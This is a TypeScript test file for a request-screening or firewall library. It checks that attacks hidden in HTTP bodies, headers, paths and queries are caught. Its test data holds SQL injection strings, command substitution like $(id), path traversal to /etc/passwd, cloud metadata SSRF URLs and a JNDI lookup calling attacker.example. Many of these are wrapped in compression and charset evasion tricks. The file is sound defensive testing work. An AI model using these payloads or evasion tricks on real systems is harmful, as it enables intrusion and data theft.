import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { brotliCompressSync, deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { addJsonText } from '../../src/client-request/json-text.ts';
import { MemberWriter } from '../../src/client-request/member-writer.ts';
import type { RequestBody } from '../../src/client-request/request-members.ts';
import { bodyStrings, type Headers, isBlocked, raw, read, sql } from './reading.ts';

const json = { 'content-type': 'application/json' };
const form = { 'content-type': 'application/x-www-form-urlencoded' };
const jsonOf = (text: string): string => JSON.stringify({ q: text });

function swapped(text: string): Buffer {
  return Buffer.from(text, 'utf16le').swap16();
}

function utf32(text: string): Buffer {
  const bytes = Buffer.alloc(text.length * 4);
  for (let i = 0; i < text.length; i += 1) bytes.writeUInt32LE(text.charCodeAt(i), i * 4);
  return bytes;
}

/** Each is read by some application as a body with the attack in it. */
const hidden: Readonly<Record<string, readonly [body: RequestBody, headers: Headers]>> = {
  'names of a file part in JSON': [
    raw(JSON.stringify({ fieldname: 1, mimetype: 1, originalname: 'x', q: sql })),
    json,
  ],
  'names of a file part in a parsed body': [
    { kind: 'parsed', value: { fieldname: 1, mimetype: 1, filter: { name: sql } } },
    json,
  ],
  'a value member beside other members': [
    { kind: 'parsed', value: { fieldname: 'a', mimetype: 'b', fields: {}, value: 'x', q: sql } },
    json,
  ],
  'gzip that is none': [raw(jsonOf(sql)), { ...json, 'content-encoding': 'gzip' }],
  'a coding that nobody knows': [raw(jsonOf(sql)), { ...json, 'content-encoding': 'foo' }],
  'gzip twice': [
    raw(gzipSync(gzipSync(jsonOf(sql)))),
    { ...json, 'content-encoding': 'gzip, gzip' },
  ],
  'deflate without a head': [
    raw(deflateRawSync(jsonOf(sql))),
    { ...json, 'content-encoding': 'deflate' },
  ],
  'deflate with a head': [
    raw(deflateSync(jsonOf(sql))),
    { ...json, 'content-encoding': 'deflate' },
  ],
  brotli: [raw(brotliCompressSync(jsonOf(sql))), { ...json, 'content-encoding': 'br' }],
  'gzip that is cut': [
    raw(gzipSync(jsonOf(sql + ' '.repeat(50))).subarray(0, -9)),
    { ...json, 'content-encoding': 'gzip' },
  ],
  'the beginning of a bomb': [
    raw(gzipSync(`{"q":"${sql}","pad":"${'x'.repeat(5_242_880)}"}`)),
    { ...json, 'content-encoding': 'gzip' },
  ],
  'a form in a packed body': [
    raw(Buffer.concat([gzipSync('x'), Buffer.from(`&q=${sql}&`)])),
    { ...form, 'content-encoding': 'gzip' },
  ],
  'UTF-8 called UTF-16, odd': [
    raw(`${jsonOf(sql)} `.slice(0, 21)),
    { 'content-type': 'application/json; charset=utf-16le' },
  ],
  'UTF-8 called UTF-16, even': [
    raw(jsonOf(`${sql} `)),
    { 'content-type': 'application/json; charset=utf-16' },
  ],
  'UTF-16 of the other byte order': [
    raw(swapped(jsonOf(sql))),
    { 'content-type': 'application/json; charset=utf-16' },
  ],
  'UTF-16 without a word': [raw(swapped(jsonOf(sql))), json],
  'UTF-32 without a word': [raw(utf32(jsonOf(sql))), json],
  'two charsets': [
    raw(Buffer.from(jsonOf(sql), 'utf16le')),
    { 'content-type': 'application/json; charset=utf-8; charset=utf-16le' },
  ],
  'a picture that is JSON': [
    raw(
      Buffer.concat([Buffer.from(jsonOf(sql).slice(0, -1)), Buffer.from(',"p":"\xff"}', 'latin1')]),
    ),
    { 'content-type': 'image/png' },
  ],
  'a picture that is a form': [
    raw(Buffer.from(`\x89PNG\xff&q=${sql}&\xff`, 'latin1')),
    { 'content-type': 'image/png' },
  ],
  'a picture whose form begins with a control character': [
    raw(Buffer.from(`\x89PNG\xff=\x19${sql}`, 'latin1')),
    { 'content-type': 'image/png' },
  ],
  'a picture that is a form with a long value': [
    raw(Buffer.from(`\x89PNG\xff&q=${'x'.repeat(5_000)}${sql}`, 'latin1')),
    { 'content-type': 'image/png' },
  ],
  'JSON called a form': [raw(jsonOf("' UNION/*&*/SELECT/*&*/password/*&*/FROM/*&*/users--")), form],
  'JSON called a text': [raw('{"a":"x","a":"$(id)"}'), { 'content-type': 'text/plain' }],
  'the first of two names': [raw(`{"u":"${sql}","u":"alice"}`), json],
  'a name twice, deep': [raw(`[{"a":{"u":"${sql}","u":"alice"}}]`), json],
  NaN: [raw(`{"n":NaN,"u":"admin' --"}`), json],
  'a comma too many': [raw(`{"u":"1 OR 1=1",}`), json],
  'comments in JSON': [raw(`{/*"*/"u":"1 OR 1=1"} // "`), json],
  'single quotes': [raw(`{'u':'http://169.254.169.254/latest/meta-data/'}`), json],
  'names without quotes': [raw(`{u:"1 OR 1=1"}`), json],
  'escapes of JavaScript': [raw(`{"u":"\\x27 OR 1=1 --"}`), json],
  'a stream of documents': [raw(`{"a":1}\n{"u":"1 OR 1=1"}`), json],
  'a list of parts': [
    raw('{"id":["0/*","*/union/*","*/select/*","*/password/*","*/from/*","*/users"]}'),
    json,
  ],
  'a list in a list': [raw('[["0/*"],["*/union/*",["*/select/*","*/a from/*"],"*/users"]]'), json],
  'a form without a type': [raw(` name="k1\nContent-Type: vz/kmadmin' --";`), {}],
  'a list in JSON in a string': [
    raw(
      JSON.stringify('{"id":["0/*","*/union/*","*/select/*","*/password/*","*/from/*","*/users"]}'),
    ),
    json,
  ],
  'parts of a form': [
    raw('id=0/*&id=*/union/*&id=*/select/*&id=*/password/*&id=*/from/*&id=*/users'),
    form,
  ],
  'bytes behind a packed stream': [
    raw(Buffer.concat([gzipSync('a'), Buffer.from(sql)])),
    { 'content-encoding': 'gzip' },
  ],
  'bytes behind a packed stream in a form': [
    raw(Buffer.concat([deflateSync('a=b'), Buffer.from(`x&+%71=${sql}`)])),
    { ...form, 'content-encoding': 'deflate' },
  ],
  'the seven bits of ASCII': [raw(Buffer.from('q=\xa7 OR 1=1 --', 'latin1')), form],
  'a text that a parser handed on': [{ kind: 'parsed', value: `{"a":"$(id)","a":""}` }, json],
};

describe('an attack in a body', () => {
  for (const [name, [body, headers]] of Object.entries(hidden)) {
    it(`is found behind ${name}`, async () => {
      const members = await read(body, headers);
      assert.ok(isBlocked(members), members.texts.join('\n').slice(0, 2_000));
    });
  }
  it('is read behind half of a pair as Ruby does', async () => {
    const members = await read(raw('{"u":"<\\ud800xphp \\ud83d\\ude00"}'), json);
    assert.deepEqual(bodyStrings(members), ['<\ud800xphp \u{1f600}', '<?php \u{1f600}']);
  });

  it('in UTF-16 is known by a zero that comes first', async () => {
    const members = await read(raw(swapped('"中b"')), json);
    assert.ok(bodyStrings(members).includes('中b'), JSON.stringify(bodyStrings(members)));
  });

  it('in UTF-32 has the replacement character for what is none', async () => {
    const bytes = Buffer.concat([utf32('"a'), Buffer.from([0, 0, 0x11, 0]), utf32('b"')]);
    const members = await read(raw(bytes), { 'content-type': 'text/plain; charset=utf-32' });
    assert.ok(bodyStrings(members).includes('a\ufffdb'), JSON.stringify(bodyStrings(members)));
  });

  it('of a charset that nobody can decode is incomplete', async () => {
    const members = await read(raw('{"a":"b"}'), {
      'content-type': 'application/json; charset=ibm037',
    });
    assert.equal(members.omission, 'coding');
  });
});

describe('an honest body', () => {
  const picture = Buffer.concat([
    Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'),
    Buffer.from(Array.from({ length: 5_000 }, (_, i) => (i * 7_919 + (i >> 3)) & 0xff)),
  ]);

  it('that is a file by type and signature is not read', async () => {
    const members = await read(raw(picture, false), { 'content-type': 'image/png' });
    assert.ok(members.isComplete);
    assert.deepEqual(bodyStrings(members), []);
  });

  it('is read once where there is no doubt', async () => {
    const honest: readonly (readonly [RequestBody, Headers, unknown[]])[] = [
      [raw('{"a":"b","n":1}'), json, ['b', 1]],
      [raw('{"a":"ö"}'), { 'content-type': 'application/json; charset=UTF-8' }, ['ö']],
      [raw('{"a":"b"}'), { 'content-type': 'application/json; charset=iso-8859-1' }, ['b']],
      [raw('{"a":"b"}'), { 'content-type': 'application/json; charset=binary' }, ['b']],
      [raw(gzipSync('{"a":"b"}')), { ...json, 'content-encoding': 'gzip' }, ['b']],
      [raw(brotliCompressSync('{"a":"b"}')), { ...json, 'content-encoding': 'br' }, ['b']],
      [raw('a=b&c=d'), form, ['b', 'd']],
      [raw('<p>text</p>'), { 'content-type': 'text/html' }, ['<p>text</p>']],
    ];
    for (const [body, headers, expected] of honest) {
      const members = await read(body, headers);
      assert.deepEqual(bodyStrings(members), expected);
      assert.ok(members.isComplete);
    }
  });
});

describe('a head', () => {
  const jndi = '${jndi:ldap://attacker.example/a}';
  const names = ['x-api-version', 'accept', 'authorization', 'x-request-id', 'if-none-match'];
  for (const name of [...names, 'accept-encoding', 'x-csrf-token', 'x-tenant', 'connection']) {
    it(`is screened in ${name}`, async () => {
      assert.ok(isBlocked(await read({ kind: 'none' }, { [name]: [jndi] })));
    });
  }

  it('of a browser is screened but for what can hold nothing', async () => {
    const headers = {
      accept: ['text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8'],
      'accept-encoding': ['gzip, deflate, br, zstd'],
      'accept-language': ['en-US,en;q=0.9,de-CH;q=0.8'],
      'sec-ch-ua': ['"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"'],
      'sec-ch-ua-mobile': ['?0'],
      'sec-ch-ua-platform': ['"Windows"'],
      'sec-fetch-mode': ['navigate'],
      'if-modified-since': ['Wed, 21 Oct 2015 07:28:00 GMT'],
      connection: ['keep-alive'],
      priority: ['u=0, i'],
    };
    const { texts } = await read({ kind: 'none' }, headers);
    assert.deepEqual(JSON.parse(texts[0] ?? ''), { method: 'POST', path: '/' });
    for (const [name, [value = '']] of Object.entries(headers)) {
      for (const odd of [`${value}'`, `${value}, ../../etc/passwd`, `$(id) ${value}`]) {
        const members = await read({ kind: 'none' }, { [name]: [odd] });
        assert.ok(members.texts[0]?.includes(JSON.stringify(odd)), odd);
      }
    }
  });

  it('is screened in an address that is none, and in fragments of the target', async () => {
    const none: RequestBody = { kind: 'none' };
    assert.ok(isBlocked(await read(none, { 'x-forwarded-for': ['$(id)'] })));
    assert.ok(isBlocked(await read(none, {}, `/#?q=${encodeURIComponent(sql)}`)));
    assert.ok(isBlocked(await read(none, {}, `/??q=${encodeURIComponent(sql)}`)));
    assert.ok(isBlocked(await read(none, {}, '/?kz=%5D=1 OR 1=1')));
    assert.ok(isBlocked(await read(none, { 'x-csrf-token': ['1', "' OR 1=1 --"] })));
    assert.ok(isBlocked(await read(none, { cookie: ["a=' OR/*", '*/1=1 --'] })));
  });

  it('is screened in each segment of the path, in the ways in which routers cut it', async () => {
    const none: RequestBody = { kind: 'none' };
    const paths = ['/x&whoami/edit', '/x%26whoami%2f"', "/f//admin'+--", "/admin'+--#"];
    for (const path of [...paths, '//http://169.254.169.254/latest/meta-data/']) {
      assert.ok(isBlocked(await read(none, {}, path)), path);
    }
    const { texts } = await read(none, {}, '/api/v1/shops/a-b_c.d/@me:1,2/~x');
    assert.deepEqual(JSON.parse(texts[0] ?? ''), {
      method: 'POST',
      path: '/api/v1/shops/a-b_c.d/@me:1,2/~x',
    });
    for (const path of [
      '/files/My%20report%20(2).pdf',
      "/tags/rock'n'roll/edit",
      '/wiki/C++',
      '/books/Select+or+union%2Fpart+1',
      '/search/fish%20%26%20chips/1',
      '/users/anna+news@mail.test/inbox',
    ]) {
      assert.ok(!isBlocked(await read(none, {}, path)), path);
    }
  });

  it('is screened once where one line has it in the place of a secret', async () => {
    const value = "Basic' OR 1=1 --";
    const { texts } = await read({ kind: 'none' }, { authorization: value });
    assert.equal(texts.join().split(value).length, 2);
  });

  it('is screened in the user of Basic, and keeps tokens and passwords to itself', async () => {
    const basic = (text: string) => `Basic ${Buffer.from(text).toString('base64')}`;
    const user = basic(`${sql}:x`);
    assert.ok(isBlocked(await read({ kind: 'none' }, { authorization: [user] })));
    assert.ok(isBlocked(await read({ kind: 'none' }, { authorization: [`${user},`] })));
    assert.ok(isBlocked(await read({ kind: 'none' }, { authorization: ['Basic JChpZC=k6'] })));
    const secret = 'correct-horse';
    for (const value of [basic(`anna:${secret}`), `Bearer ${secret}`, secret]) {
      const headers = { authorization: [value], 'x-api-key': [secret] };
      const { texts } = await read({ kind: 'none' }, headers);
      assert.ok(!texts.join().includes(secret) && !texts.join().includes(value));
    }
  });

  it('is screened in repeated parameters of the query, also as a list', async () => {
    const none: RequestBody = { kind: 'none' };
    const query = 'id=0/*&id=*/union/*&id=*/select/*&id=*/password/*&id=*/from/*&id=*/users';
    assert.ok(isBlocked(await read(none, {}, `/p?${query}`)));
    assert.ok(isBlocked(await read(none, {}, `/p?${query.replaceAll('id=', 'id[]=')}`)));
    let index = 0;
    const numbered = query.replaceAll('id=', () => `id[${index++}]=`);
    assert.ok(isBlocked(await read(none, {}, `/p?${numbered}`)));
    assert.ok(isBlocked(await read(none, {}, '/p?a=1;id=1 OR 1=1;b=2')));
  });
});

describe('a JSON text', () => {
  const readingOf = async (text: string) => {
    const writer = new MemberWriter();
    const reading = await addJsonText(writer, text);
    return { reading, texts: writer.finish().texts };
  };

  it('is strict just where JSON.parse takes it', async () => {
    const token = fc.constantFrom(
      ...['{', '}', '[', ']', ',', ':', '"a"', '"\\u0041"', '"\\x41"', "'b'", '1', '-0.5e3', '01'],
      ...['true', 'null', 'NaN', 'a', ' ', '\n', '\u00a0', '/**/', '"\u0001"', '"\\', '1.', '+1'],
    );
    const text = fc.oneof(
      fc.array(token, { maxLength: 12 }).map((tokens) => tokens.join('')),
      fc.json(),
    );
    await fc.assert(
      fc.asyncProperty(text, async (one) => {
        const { reading } = await readingOf(one);
        assert.equal(reading === 'strict', isParsed(one), one);
      }),
      { numRuns: 3_000 },
    );
  });

  it('gives every string of a value', async () => {
    await fc.assert(
      fc.asyncProperty(fc.jsonValue(), async (value) => {
        const { reading, texts } = await readingOf(JSON.stringify(value));
        assert.equal(reading, 'strict');
        const all = new Set(texts.flatMap((text) => Object.values(JSON.parse(text) as object)));
        for (const string of stringsIn(value)) assert.ok(string === '' || all.has(string), string);
      }),
    );
  });

  it('of two megabytes of anything comes to an end, within the bounds', async () => {
    const pieces = ['[', '{"a":', '"\\u0041', '"\\x"', "'", '//\n', '/*', '"a",', '\\', '{}'];
    for (const piece of pieces) {
      for (const text of [piece.repeat(2_000_000 / piece.length), `[${piece.repeat(200_000)}`]) {
        const { texts } = await readingOf(text);
        assert.ok(texts.length >= 1 && texts.length <= 8);
      }
    }
  });
});

function isParsed(text: string): boolean {
  try {
    JSON.parse(text);
    return true;
  } catch {
    return false;
  }
}

function stringsIn(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (typeof value !== 'object' || value === null) return [];
  return Object.values(value).flatMap(stringsIn);
}
